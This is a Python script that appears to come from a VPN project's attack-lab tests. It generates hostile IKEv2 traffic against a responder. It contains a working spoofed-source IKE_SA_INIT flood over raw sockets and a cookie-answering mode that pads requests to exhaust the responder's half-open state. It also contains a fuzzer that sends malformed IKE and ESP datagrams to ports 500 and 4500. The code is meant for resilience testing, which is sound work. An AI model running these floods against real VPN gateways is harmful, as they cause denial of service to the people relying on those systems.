#!/usr/bin/env python3
"""Hostile traffic for the attack lab (tests/attack/*.sh), only ever sent inside its namespaces.

  ike_flood.py spoof DST PREFIX RATE SECONDS
      IKE_SA_INIT requests (RFC 7296 §1.2: SA aes256gcm16-prfsha256-x25519, KE with a 32-byte
      X25519 value, Nonce) from random addresses of PREFIX (an IPv4 or IPv6 prefix, e.g.
      172.20.0.0/16 or 2001:db8:66:1::/64) to DST:500, through a raw socket that writes its own
      IP header: the senders never see an answer, as in a spoofed flood. RATE per second, for
      SECONDS. Prints how many were sent.

  ike_flood.py biginit DST COUNT SIZE
      COUNT IKE_SA_INIT requests from this host's own address (one UDP socket), each padded with a
      private-use status notify of SIZE bytes, answering every COOKIE request (RFC 7296 §2.6) as a
      real client does, so that each one costs the responder a half-open SA holding SIZE bytes.
      Never completes IKE_AUTH. Prints how many were admitted (answered with an SA), asked for a
      cookie, and left unanswered (dropped).

  ike_flood.py malformed DST COUNT RATE
      COUNT datagrams to DST:500 and DST:4500 that no correct peer sends: truncated IKE headers,
      lengths that lie, payload chains that run past the end, IKE_SA_INITs with garbage payloads,
      random SPIs, ESP-in-UDP for SPIs nobody gave out, the non-ESP marker followed by garbage,
      and keepalive-sized oddities. At most RATE per second. Prints the count of each kind.
"""
import ipaddress
import os
import random
import socket
import struct
import sys
import time

IKE_SA_INIT, PAYLOAD_SA, PAYLOAD_KE, PAYLOAD_NONCE = 34, 33, 34, 40


def ike_header(spi_i, spi_r, next_payload, exchange, flags, msg_id, length):
    # RFC 7296 §3.1
    return spi_i + spi_r + struct.pack("!BBBBII", next_payload, 0x20, exchange, flags, msg_id, length)


def transform(last, ttype, tid, attrs=b""):
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attrs), ttype, 0, tid) + attrs


def ike_sa_init(rng):
    transforms = (transform(False, 1, 20, struct.pack("!HH", 0x800E, 256))  # ENCR AES-GCM-16, 256 bits
                  + transform(False, 2, 5)                                  # PRF HMAC-SHA2-256
                  + transform(True, 4, 31))                                 # DH Curve25519
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 3) + transforms
    sa = struct.pack("!BBH", PAYLOAD_KE, 0, 4 + len(proposal)) + proposal
    ke_value = os.urandom(32)
    ke = struct.pack("!BBHHH", PAYLOAD_NONCE, 0, 8 + 32, 31, 0) + ke_value
    nonce = struct.pack("!BBH", 0, 0, 4 + 32) + os.urandom(32)
    body = sa + ke + nonce
    spi_i = os.urandom(8)
    return ike_header(spi_i, bytes(8), PAYLOAD_SA, IKE_SA_INIT, 0x08, 0, 28 + len(body)) + body


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def udp(src, dst, sport, dport, payload, v6):
    length = 8 + len(payload)
    header = struct.pack("!HHHH", sport, dport, length, 0)
    if not v6:
        return header + payload  # IPv4: checksum 0 means none (RFC 768)
    pseudo = src.packed + dst.packed + struct.pack("!IxxxB", length, 17)
    c = checksum(pseudo + header + payload) or 0xFFFF
    return struct.pack("!HHHH", sport, dport, length, c) + payload


def ip_packet(src, dst, segment, v6):
    if v6:
        # RFC 8200 §3: version 6, no traffic class or flow label, next header UDP, hop limit 64
        return struct.pack("!IHBB", 6 << 28, len(segment), 17, 64) + src.packed + dst.packed + segment
    # RFC 791: the kernel fills in the ID and the header checksum for IP_HDRINCL sockets.
    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(segment), 0, 0, 64, 17, 0) + src.packed + dst.packed + segment


def paced(rate, seconds=None, count=None):
    """Yields batch sizes so that about `rate` per second go out; stops after `seconds` or `count`."""
    start = time.monotonic()
    sent = 0
    while True:
        elapsed = time.monotonic() - start
        if seconds is not None and elapsed >= seconds:
            return
        if count is not None and sent >= count:
            return
        due = int(elapsed * rate) + 1 - sent
        if due <= 0:
            time.sleep(0.002)
            continue
        if count is not None:
            due = min(due, count - sent)
        due = min(due, 256)
        yield due
        sent += due


def spoof(dst_text, prefix_text, rate, seconds):
    net = ipaddress.ip_network(prefix_text, strict=False)
    dst = ipaddress.ip_address(dst_text)
    v6 = net.version == 6
    if v6:
        s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)  # implies IPV6_HDRINCL
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # implies IP_HDRINCL
    rng = random.Random(os.getpid())
    host_bits = net.max_prefixlen - net.prefixlen
    base = int(net.network_address)
    sent = errors = 0
    sources = set()
    for batch in paced(rate, seconds=seconds):
        for _ in range(batch):
            src = ipaddress.ip_address(base + rng.randrange(1, 2 ** host_bits - 1))
            sources.add(src)
            packet = ip_packet(src, dst, udp(src, dst, rng.randrange(1024, 65535), 500, ike_sa_init(rng), v6), v6)
            try:
                s.sendto(packet, (dst_text, 0))
                sent += 1
            except OSError:
                errors += 1
    print("spoof %s: %d IKE_SA_INIT requests from %d addresses of %s in %d s (%d send errors)"
          % (dst_text, sent, len(sources), prefix_text, seconds, errors))


def malformed(dst, count, rate):
    rng = random.Random(12)
    s500 = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s4500 = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    marker = b"\0\0\0\0"

    def rnd(n):
        return os.urandom(n)

    def truncated_header():
        return rnd(rng.randrange(1, 28))

    def lying_length():
        return ike_header(rnd(8), bytes(8), 33, 34, 0x08, 0, rng.choice([29, 500, 65535, 0, 27])) + rnd(rng.randrange(0, 40))

    def chain_past_end():
        body = struct.pack("!BBH", 34, 0, 400) + rnd(20)  # an SA payload claiming 400 bytes
        return ike_header(rnd(8), bytes(8), 33, 34, 0x08, 0, 28 + len(body)) + body

    def garbage_init():
        body = rnd(rng.randrange(4, 200))
        return ike_header(rnd(8), bytes(8), rng.randrange(0, 256), 34, 0x08, 0, 28 + len(body)) + body

    def random_spis():
        body = struct.pack("!BBH", 0, 0, 8) + rnd(4)
        return ike_header(rnd(8), rnd(8), 46, rng.choice([35, 36, 37]), rng.choice([0x08, 0x20, 0x28]),
                          rng.randrange(0, 2 ** 32), 28 + len(body)) + body

    def bad_version():
        h = bytearray(ike_sa_init(rng))
        h[17] = rng.choice([0x10, 0x30, 0xF0])
        return bytes(h)

    def esp_random_spi():
        return struct.pack("!II", rng.randrange(256, 2 ** 32), rng.randrange(1, 2 ** 32)) + rnd(rng.randrange(0, 120))

    def esp_short():
        return struct.pack("!I", rng.randrange(256, 2 ** 32)) + rnd(rng.randrange(0, 4))

    kinds_500 = [("truncated_header", truncated_header), ("lying_length", lying_length),
                 ("chain_past_end", chain_past_end), ("garbage_init", garbage_init),
                 ("random_spis", random_spis), ("bad_version", bad_version)]
    kinds_4500 = [("marker_truncated", lambda: marker + truncated_header()),
                  ("marker_lying_length", lambda: marker + lying_length()),
                  ("marker_garbage", lambda: marker + rnd(rng.randrange(0, 300))),
                  ("marker_random_spis", lambda: marker + random_spis()),
                  ("esp_random_spi", esp_random_spi), ("esp_short", esp_short),
                  ("odd_bytes", lambda: rnd(rng.randrange(1, 4)))]
    counts = {}
    i = 0
    for batch in paced(rate, count=count):
        for _ in range(batch):
            if i % 2 == 0:
                name, make = kinds_500[rng.randrange(len(kinds_500))]
                sock, port = s500, 500
            else:
                name, make = kinds_4500[rng.randrange(len(kinds_4500))]
                sock, port = s4500, 4500
            try:
                sock.sendto(make(), (dst, port))
            except OSError:
                name += "_send_error"
            counts[name] = counts.get(name, 0) + 1
            i += 1
    print("malformed %s: %d datagrams: %s" % (dst, i, " ".join("%s=%d" % kv for kv in sorted(counts.items()))))


NOTIFY, COOKIE = 41, 16390


def biginit(dst, count, size):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.5)
    rng = random.Random(21)
    admitted = cookies = unanswered = 0
    deadline = time.monotonic() + 90
    for _ in range(count):
        if time.monotonic() > deadline:
            break
        base = ike_sa_init(rng)  # header + SA + KE + Nonce (the Nonce ends the chain)
        spi = base[:8]
        body = bytearray(base[28:])
        body[-36] = NOTIFY  # the Nonce's next payload: our padding notify
        pad = struct.pack("!BBHBBH", 0, 0, 8 + size, 0, 0, 40001) + bytes(size)  # private-use status type
        body = bytes(body) + pad
        first = PAYLOAD_SA
        for _attempt in range(2):
            msg = ike_header(spi, bytes(8), first, IKE_SA_INIT, 0x08, 0, 28 + len(body)) + body
            s.sendto(msg, (dst, 500))
            reply = None
            try:
                while reply is None:
                    r = s.recv(65535)
                    if len(r) >= 28 and r[:8] == spi:
                        reply = r
            except socket.timeout:
                unanswered += 1
                break
            if reply[16] == NOTIFY and struct.unpack("!H", reply[34:36])[0] == COOKIE:
                cookies += 1
                cookie_len = struct.unpack("!H", reply[30:32])[0] - 8
                cookie = reply[36:36 + cookie_len]
                # §2.6: the same request with the cookie as the first payload.
                body = struct.pack("!BBHBBH", first, 0, 8 + len(cookie), 0, 0, COOKIE) + cookie + body
                first = NOTIFY
                continue
            if reply[16] == PAYLOAD_SA:
                admitted += 1
            break
    print("biginit %s: %d requests of %d bytes: %d admitted, %d cookie requests answered, %d unanswered"
          % (dst, count, 28 + len(body), admitted, cookies, unanswered))


def main(argv):
    if len(argv) == 5 and argv[0] == "spoof":
        spoof(argv[1], argv[2], int(argv[3]), int(argv[4]))
    elif len(argv) == 4 and argv[0] == "biginit":
        biginit(argv[1], int(argv[2]), int(argv[3]))
    elif len(argv) == 4 and argv[0] == "malformed":
        malformed(argv[1], int(argv[2]), int(argv[3]))
    else:
        sys.stderr.write(__doc__)
        return 2
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
